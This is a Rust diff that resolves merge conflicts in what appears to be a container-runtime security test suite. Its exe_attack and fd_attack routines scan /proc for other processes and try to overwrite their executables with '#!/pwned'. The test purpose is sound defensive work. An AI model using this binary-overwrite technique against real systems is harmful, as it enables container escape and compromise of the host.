@@ -17,14 +17,7 @@ fn say(text: &str) {
 pub(crate) fn signals() -> ExitCode {
     use nix::sys::signal::{SigSet, Signal};
     let mut set = SigSet::empty();
-    for signal in [
-        Signal::SIGTERM,
-        Signal::SIGUSR1,
-        Signal::SIGUSR2,
-        Signal::SIGHUP,
-        Signal::SIGINT,
-        Signal::SIGWINCH,
-    ] {
+    for signal in [Signal::SIGTERM, Signal::SIGUSR1, Signal::SIGUSR2, Signal::SIGHUP, Signal::SIGINT, Signal::SIGWINCH] {
         set.add(signal);
     }
     if set.thread_block().is_err() {
@@ -87,22 +80,6 @@ pub(crate) fn exe_attack() -> ExitCode {
     loop {
         for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
             let exe = entry.path().join("exe");
-<<<<<<< HEAD
-            let Ok(target) = fs::read_link(&exe) else {
-                continue;
-            };
-            if target.starts_with("/bin") {
-                continue;
-            }
-            say(&format!("saw {}", target.display()));
-            if OpenOptions::new()
-                .write(true)
-                .custom_flags(libc::O_NONBLOCK)
-                .open(&exe)
-                .is_ok()
-            {
-                say(&format!("WROTE {}", target.display()));
-=======
             let Ok(file) = File::open(&exe) else { continue };
             // The process may have executed something else in between: what was opened counts.
             let own = format!("/proc/self/fd/{}", file.as_raw_fd());
@@ -118,7 +95,6 @@ pub(crate) fn exe_attack() -> ExitCode {
             let Ok(mut file) = OpenOptions::new().write(true).open(again) else { continue };
             if file.write_all(b"#!/pwned\n").is_ok() {
                 say(&format!("WROTE {target}"));
->>>>>>> tests
             }
         }
     }
@@ -131,14 +107,7 @@ pub(crate) fn fd_attack() -> ExitCode {
     loop {
         for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
             let name = entry.file_name().to_string_lossy().into_owned();
-<<<<<<< HEAD
-            let Ok(pid) = name.parse::<i64>() else {
-                continue;
-            };
-            if name == own {
-=======
             if name == own || name.parse::<u32>().is_err() {
->>>>>>> tests
                 continue;
             }
             // What runs after execve is the container's own: only the runtime's process is a find.
